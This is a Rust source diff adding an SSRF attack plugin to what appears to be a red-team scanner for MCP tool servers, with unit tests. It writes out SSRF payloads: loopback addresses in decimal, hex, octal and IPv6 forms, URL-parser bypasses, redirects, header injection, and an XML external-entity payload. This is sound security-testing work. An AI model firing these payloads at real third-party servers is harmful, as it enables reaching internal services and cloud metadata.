@@ -1,0 +1,397 @@
+//! Addresses that make a server connect where its callers cannot.
+
+use serde_json::{Value, json};
+
+use super::{deeds, reach};
+use crate::attack::{
+    Action, Aim, Attack, Attempt, Bout, Brief, Facts, Field, Hit, HttpRequest, Kind, Listener,
+    Need, Nonce, Tried,
+};
+use crate::evidence::Observation;
+use crate::finding::{Place, Severity};
+use crate::knowledge::words;
+use crate::probe::Step;
+use crate::registry::Meta;
+
+pub(super) struct Ssrf;
+
+static META: Meta = Meta {
+    id: "ssrf",
+    aliases: &["server-side-request-forgery"],
+    summary: "An address of the caller makes the server connect to its own machine or network",
+    docs: "\
+# What it does
+Waits on the loopback address of the tester's machine, and gives that address to everything that may be an address: as it is, in other
+notations (decimal, hexadecimal, octal, short, IPv6), behind a name that is not the host, by way of a redirect, inside of markup, and in
+headers of HTTP requests that servers make addresses from.
+
+# Why it matters
+Behind a server are databases, administration pages and the metadata of clouds, which trust whoever connects from there.
+
+# What counts as proof
+A connection to the listener that carries the random path of the attempt. If it is the stated purpose of a tool to fetch what it is
+given, that is by design and low, unless the tool claims limits, or refuses the plain address and takes another notation.
+
+# Example
+```yaml
+redteam:
+  plugins: [ssrf]
+```
+
+# References
+- CWE-918, OWASP API7
+",
+    since: "0.1.0",
+};
+
+static FACTS: Facts = Facts {
+    severity: Severity::High,
+    cwe: &[918],
+    frameworks: &["MCP05", "ASI02", "LLM06"],
+    needs: &[Need::SameHost],
+};
+
+const KINDS: [Kind; 4] = [Kind::Url, Kind::Host, Kind::Path, Kind::Other];
+/// Names of arguments whose text is rendered, so that addresses inside of it are fetched.
+const MARKUP: [&str; 6] = ["html", "markdown", "svg", "xml", "css", "page"];
+/// Headers that servers make addresses from.
+const HEADERS: [&str; 5] =
+    ["X-Forwarded-Host", "X-Forwarded-Server", "X-Original-Host", "X-Base-Url", "Referer"];
+/// More headers that a server speaks of itself are not tried.
+const MAX_HEADERS: usize = 12;
+/// Calls that are made with these headers.
+const MAX_CALLS: usize = 12;
+
+impl Attack for Ssrf {
+    fn meta(&self) -> &'static Meta {
+        &META
+    }
+
+    fn facts(&self) -> &'static Facts {
+        &FACTS
+    }
+
+    fn aims(&self, field: &Field<'_>) -> Vec<Aim> {
+        let mut aims = field.texts(&KINDS, false);
+        aims.retain(|aim| {
+            aim.is(Kind::Url) || aim.is(Kind::Host) || aim.is(Kind::Path) || is_markup(aim)
+        });
+        if field.powers.http {
+            aims.extend(field.surfaces.iter().map(|(server, _)| Aim {
+                place: Place::Header { server: server.clone(), header: HEADERS[0].to_owned() },
+                baseline: None,
+                kinds: vec![Kind::Host],
+                schema: Value::Null,
+                by_design: None,
+            }));
+        }
+        aims
+    }
+
+    fn attempts(&self, aim: &Aim, brief: &Brief<'_>) -> Vec<Attempt> {
+        let Some(listener) = brief.listener else { return Vec::new() };
+        if let Place::Header { server, .. } = &aim.place {
+            return headers(server, brief, listener);
+        }
+        let origin = format!("{}:{}", listener.host, listener.port);
+        let mut attempts = Vec::new();
+        for set in 0.. {
+            let nonce = brief.nonce();
+            let Some((form, payload)) = addresses(aim, listener, &nonce).into_iter().nth(set)
+            else {
+                break;
+            };
+            let made = reach::attempt(aim, (set, form), nonce, payload);
+            attempts.extend(made.map(|attempt| Attempt { role: origin.clone(), ..attempt }));
+        }
+        attempts
+    }
+
+    fn detect(&self, bout: &Bout<'_>) -> Vec<Hit> {
+        if matches!(bout.aim.place, Place::Header { .. }) {
+            return bout.tried.iter().flat_map(|tried| by_header(bout, tried)).collect();
+        }
+        let mut hits: Vec<Hit> = bout
+            .tried
+            .iter()
+            .filter_map(|tried| Some(hit(bout, tried, &connection(tried)?)))
+            .collect();
+        // Where nothing is filtered, other notations say nothing new.
+        if hits.iter().any(|hit| hit.fault == "unfiltered") {
+            hits.retain(|hit| hit.fault == "unfiltered");
+        }
+        hits
+    }
+}
+
+fn is_markup(aim: &Aim) -> bool {
+    words(&deeds::last_name(aim)).iter().any(|word| MARKUP.contains(&word.as_str()))
+}
+
+/// All addresses for one mark, in the same order for every mark.
+fn addresses(aim: &Aim, listener: &Listener, nonce: &Nonce) -> Vec<(&'static str, String)> {
+    let (host, port) = (&listener.host, listener.port);
+    let url = listener.url(nonce);
+    if is_markup(aim) && aim.kinds.first() != Some(&Kind::Url) {
+        let markup = format!(
+            "<html><head><link rel=\"stylesheet\" href=\"{url}\"></head><body><img src=\"{url}\">\
+             <iframe src=\"{url}\"></iframe>\n\n![x]({url})\n</body></html>"
+        );
+        let entity = format!(
+            "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"{url}\">]><svg \
+             xmlns=\"http://www.w3.org/2000/svg\"><image href=\"{url}\"/><text>&e;</text></svg>"
+        );
+        return vec![("address in markup", markup), ("external entity", entity)];
+    }
+    let mut found = vec![("plain address", url.clone())];
+    if aim.is(Kind::Host) {
+        found.push(("host with a path", format!("{host}:{port}/{nonce}")));
+    }
+    if !aim.is(Kind::Url) && !aim.is(Kind::Host) {
+        return found;
+    }
+    found.push(("redirect", listener.redirect(nonce)));
+    if !listener.loopback {
+        return found;
+    }
+    let at = |host: &str| format!("http://{host}:{port}/{nonce}");
+    found.extend([
+        ("notation: name", at("localhost")),
+        ("notation: name with a dot", at("localhost.")),
+        ("notation: decimal", at("2130706433")),
+        ("notation: hexadecimal", at("0x7f000001")),
+        // One number, since four of them would be another address for whoever reads them as decimal.
+        ("notation: octal", at("017700000001")),
+        ("notation: short", at("127.1")),
+        ("notation: any address", at("0.0.0.0")),
+        ("notation: IPv4 in IPv6", at("[::ffff:127.0.0.1]")),
+        ("notation: capital letters", url.replacen("http", "HTTP", 1)),
+        ("credentials before the host", at("example.com@127.0.0.1")),
+        ("backslash before the host", format!("http://127.0.0.1:{port}\\@example.com/../{nonce}")),
+        ("fragment behind the host", format!("http://127.0.0.1:{port}/{nonce}#@example.com/")),
+    ]);
+    found
+}
+
+/// A call of each tool with headers that servers make addresses from. The path names the header.
+fn headers(server: &str, brief: &Brief<'_>, listener: &Listener) -> Vec<Attempt> {
+    let Some(field) = brief.field else { return Vec::new() };
+    let names = header_names(field, server);
+    let calls = field.knowledge.baselines.iter().filter(|known| known.server == server);
+    let calls = calls.filter_map(|known| match &known.step {
+        Step::Call(call) => {
+            let tool = field.tool(server, &call.tool)?;
+            deeds::may_call(field, tool).then_some(call)
+        }
+        Step::Request { .. } => None,
+    });
+    let mut attempts = Vec::new();
+    for (set, call) in calls.take(MAX_CALLS).enumerate() {
+        let nonce = brief.nonce();
+        let headers = names.iter().map(|name| {
+            let place =
+                format!("{}:{}/{nonce}/{}", listener.host, listener.port, name.to_lowercase());
+            let is_url = ["url", "uri", "referer", "endpoint"];
+            let whole = words(name).iter().any(|word| is_url.contains(&word.as_str()));
+            (name.clone(), if whole { format!("http://{place}") } else { place })
+        });
+        let body = json!({"jsonrpc": "2.0", "id": 7, "method": "tools/call",
+            "params": {"name": call.tool, "arguments": call.args}});
+        let request = HttpRequest {
+            method: "POST".to_owned(),
+            headers: headers.collect(),
+            body: body.to_string(),
+            identity: Some(0),
+            ..HttpRequest::default()
+        };
+        attempts.push(Attempt {
+            form: format!("header, call of {}", call.tool),
+            set,
+            role: names.join("\n"),
+            action: Action::Http(request),
+            payload: None,
+            nonce,
+        });
+    }
+    attempts
+}
+
+/// Headers that are tried everywhere, and those that the server speaks of itself.
+fn header_names(field: &Field<'_>, server: &str) -> Vec<String> {
+    let mut names: Vec<String> = HEADERS.map(str::to_owned).to_vec();
+    for (_, surface) in field.surfaces.iter().filter(|(of, _)| of == server) {
+        let told = surface.tools.iter().filter_map(|tool| tool.description());
+        for text in told.chain(surface.instructions.as_deref()) {
+            let plain = |c: char| c.is_ascii_alphanumeric() || c == '-';
+            for word in text.split(|c| !plain(c)) {
+                let known = names.iter().any(|name| name.eq_ignore_ascii_case(word));
+                let is_header = word.len() < 64 && word.to_lowercase().starts_with("x-");
+                if is_header && !known && names.len() < MAX_HEADERS {
+                    names.push(word.to_owned());
+                }
+            }
+        }
+    }
+    names
+}
+
+/// The request that reached the listener and proves this form.
+fn connection(tried: &Tried) -> Option<String> {
+    let nonce = tried.attempt.nonce.as_str();
+    tried.evidence.observations.iter().find_map(|observation| {
+        let Observation::Connection { request, headers } = observation else { return None };
+        if !request.contains(nonce) {
+            return None;
+        }
+        if tried.attempt.form == "redirect" {
+            // The first hop is the address that was given; only what lies behind counts.
+            let host = headers.iter().find_map(|line| {
+                let (name, value) = line.split_once(':')?;
+                name.eq_ignore_ascii_case("host").then(|| value.trim())
+            });
+            let elsewhere = host.is_some_and(|host| host != tried.attempt.role);
+            if request.contains("/redirect/") || !elsewhere {
+                return None;
+            }
+        }
+        Some(request.clone())
+    })
+}
+
+fn hit(bout: &Bout<'_>, tried: &Tried, request: &str) -> Hit {
+    let (place, form) = (&bout.aim.place, &tried.attempt.form);
+    let what = format!("the listener was connected to: {request}");
+    let fault = match form.as_str() {
+        "redirect" => "redirect",
+        "address in markup" | "external entity" => "markup",
+        "credentials before the host"
+        | "backslash before the host"
+        | "fragment behind the host" => "parser",
+        form if form.starts_with("notation") => "notation",
+        _ => "unfiltered",
+    };
+    let title = format!("{place} makes the server connect to its own machine ({form})");
+    let hit = Hit::confirmed(title, what).by(tried).fault(fault);
+    let tool = deeds::tool_of(bout.field, bout.aim);
+    let fetches = tool.is_some_and(deeds::fetches) && bout.aim.is(Kind::Url);
+    if fault == "unfiltered" && fetches && !deeds::claims_limits(tool, &bout.aim.schema) {
+        let note = "to fetch what it is given is the stated purpose of the tool, and it claims no limits: by design";
+        return hit.severity(Severity::Low).note(note);
+    }
+    // The tool says itself that it fetches from there.
+    let named = tool.is_some_and(|tool| tool.raw().to_string().contains(&tried.attempt.role));
+    if fault == "unfiltered" && named {
+        let note = "the tool names this very address as one that it fetches from: by design";
+        return hit.severity(Severity::Info).note(note);
+    }
+    hit
+}
+
+fn by_header(bout: &Bout<'_>, tried: &Tried) -> Vec<Hit> {
+    let nonce = tried.attempt.nonce.as_str();
+    let mut hits: Vec<Hit> = Vec::new();
+    for observation in &tried.evidence.observations {
+        let Observation::Connection { request, .. } = observation else { continue };
+        let Some((_, rest)) = request.split_once(nonce) else { continue };
+        let rest = rest.trim_start_matches('/');
+        let name = tried.attempt.role.lines().find(|name| {
+            let name = name.to_lowercase();
+            rest.strip_prefix(name.as_str()).is_some_and(|rest| {
+                !rest.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '-')
+            })
+        });
+        let Some(name) = name else { continue };
+        let server = bout.aim.place.server().to_owned();
+        let place = Place::Header { server, header: name.to_owned() };
+        let title = format!("{place} names where the server connects to");
+        let what = format!("the listener was connected to: {request}");
+        hits.push(Hit::confirmed(title, what).by(tried).fault("header").at(place));
+    }
+    hits
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::attacks::testing::{Room, answers};
+    use crate::evidence::Evidence;
+
+    fn connected(request: String, host: &str) -> Evidence {
+        let mut evidence = answers("done");
+        let headers = vec![format!("Host: {host}")];
+        evidence.observations.push(Observation::Connection { request, headers });
+        evidence
+    }
+
+    /// A server that connects to what the predicate lets through.
+    fn fetching(room: &Room, lets: impl Fn(&str) -> bool) -> Vec<Hit> {
+        room.fight(&Ssrf, |attempt| {
+            let url = attempt.payload.as_ref().unwrap().as_str().unwrap();
+            if lets(url) {
+                connected(format!("GET /{} HTTP/1.1", attempt.nonce), "127.0.0.1:9")
+            } else {
+                answers(&format!("Error: refused {url}"))
+            }
+        })
+    }
+
+    #[test]
+    fn a_connection_with_the_mark_is_proof() {
+        let room = Room::with_argument("subscribe", "callback", "https://example.com/");
+        let hits = fetching(&room, |_| true);
+        assert_eq!(hits[0].fault, "unfiltered");
+        assert!(hits[0].note.is_none());
+    }
+
+    #[test]
+    fn fetching_is_by_design_unless_limits_are_claimed_or_kept() {
+        let open = Room::with_argument("fetch_page", "url", "https://example.com/");
+        let hits = fetching(&open, |_| true);
+        assert!(hits[0].note.is_some() && hits[0].severity == Some(Severity::Low));
+        let hits = fetching(&open, |url| url.contains("2130706433"));
+        assert_eq!(hits.len(), 1);
+        assert_eq!((hits[0].fault, hits[0].severity), ("notation", None));
+        let mut shut = Room::with_argument("fetch_page", "url", "https://example.com/");
+        shut.surfaces[0].1.tools[0].0["description"] = json!("Private addresses are refused.");
+        assert!(fetching(&shut, |_| true)[0].note.is_none());
+    }
+
+    #[test]
+    fn echoes_and_connections_of_others_are_no_proof() {
+        let room = Room::with_argument("fetch_page", "url", "https://example.com/");
+        assert!(fetching(&room, |_| false).is_empty());
+        let other = |_: &Attempt| connected("GET /somethingelse HTTP/1.1".into(), "127.0.0.1:9");
+        assert!(room.fight(&Ssrf, other).is_empty());
+    }
+
+    #[test]
+    fn a_redirect_counts_only_where_it_leads_elsewhere() {
+        let room = Room::with_argument("fetch_mirror", "url", "https://example.com/");
+        let follow = |host: &'static str| {
+            room.fight(&Ssrf, move |attempt| {
+                if attempt.form == "redirect" {
+                    connected(format!("GET /{} HTTP/1.1", attempt.nonce), host)
+                } else {
+                    answers("Error: not there")
+                }
+            })
+        };
+        assert_eq!(follow("localhost:9")[0].fault, "redirect");
+        assert!(follow("127.0.0.1:9").is_empty());
+    }
+
+    #[test]
+    fn the_header_that_was_used_is_named() {
+        let mut room = Room::with_argument("show_icon", "id", "1");
+        room.powers.http = true;
+        let hits = room.fight(&Ssrf, |attempt| match &attempt.action {
+            Action::Http(_) => connected(
+                format!("GET /{}/x-forwarded-host/icon.png HTTP/1.1", attempt.nonce),
+                "127.0.0.1:9",
+            ),
+            _ => answers("ok"),
+        });
+        assert_eq!(hits.len(), 1);
+        assert_eq!(hits[0].place.as_ref().unwrap().to_string(), "header X-Forwarded-Host");
+    }
+}
